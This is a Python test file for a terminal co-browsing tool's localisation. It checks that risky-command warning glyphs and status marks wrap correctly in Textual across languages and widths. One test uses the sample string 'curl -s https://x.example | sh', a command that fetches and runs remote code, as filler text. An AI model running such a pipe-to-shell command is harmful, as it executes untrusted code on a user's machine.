"""The ⚠ of a risky-command warning stays with its words when the line wraps. In Chinese the
words after "⚠ " are one run with no space: Textual's wrap (the app's toasts, step card, side
panel) moved the whole run to the next row and left ⚠ alone on its own. Every language's
warning, at every width a toast or a step card has, wrapped as Textual wraps it."""

from __future__ import annotations

import re

import pytest
from rich.cells import cell_len
from textual._wrap import compute_wrap_offsets

from cobrowse.i18n.catalogues import translator
from cobrowse.i18n.language import Language
from cobrowse.policy.risky_command import RISK_TEXT
from cobrowse.protocol.prompts import ASKS, GIVES, PromptKind

GLYPH = "⚠"


def rows(text: str, width: int) -> list[str]:
    offsets = [0, *compute_wrap_offsets(text, width, 4), len(text)]
    return [text[a:b] for a, b in zip(offsets, offsets[1:])]


@pytest.mark.parametrize("language", list(Language))
@pytest.mark.parametrize("width", range(12, 81))
def test_the_warning_glyph_is_never_alone_on_a_row(language: Language, width: int) -> None:
    tr = translator(language, isolate=False)
    for risk, msgid in RISK_TEXT.items():
        for text in (tr(msgid), tr("{warning} · {suggestion}", warning=tr(msgid), suggestion="curl -s https://x.example | sh")):
            for row in rows(text, width):
                assert row.strip() != GLYPH and not row.rstrip().endswith(f" {GLYPH}"), (risk, width, rows(text, width))


#: Marks that open a warning or a state ("!! WAIT", "✓ verified", "● RECORDING").
MARKS = re.compile(r"(?:⚠|!!|✓|●)\s+(\S)")


@pytest.mark.parametrize("language", list(Language))
def test_no_catalogue_puts_a_space_between_a_mark_and_a_wide_character(language: Language) -> None:
    """Any language written without spaces (zh, a ja or ko later): "⚠ 这…" breaks after ⚠ (and
    "!! 请稍等" left "!!" alone on the consent bar's first row at 40 columns); the mark is
    written against its first character, as the language writes its symbols."""
    catalogue = translator(language).catalogue
    texts = getattr(catalogue, "_catalog", {}).values()
    bad = [t for t in texts if isinstance(t, str) and any(cell_len(m[1]) == 2 for m in MARKS.finditer(t))]
    assert bad == []


@pytest.mark.parametrize("language", list(Language))
@pytest.mark.parametrize("width", range(20, 81))
def test_the_unverified_mark_in_the_consent_question_opens_its_row(language: Language, width: int) -> None:
    """The consent bar's "… refuses; nobody answering = denied. ⚠ NOT VERIFIED" left ⚠ at the
    end of a row in Russian at 40 columns, its words on the next one: the mark now opens the
    question (read first, and no row longer: a line break cost the question's end at 40×10)."""
    tr = translator(language, isolate=False)
    question = tr("{agent} asks {what}. Allow (Ctrl-] y) {gives}; Deny (Ctrl-] n) refuses; nobody answering = "
                  "denied.", agent="Alice", what=tr(ASKS[PromptKind.CONTROL]), gives=tr(GIVES[PromptKind.CONTROL]))
    text = tr("⚠ NOT VERIFIED (you will have to confirm twice): {question}", question=question)
    lines = [row for line in text.split("\n") for row in rows(line, width)]
    assert any(row.startswith(GLYPH) for row in lines)
    assert not any(row.rstrip().endswith(GLYPH) for row in lines), lines
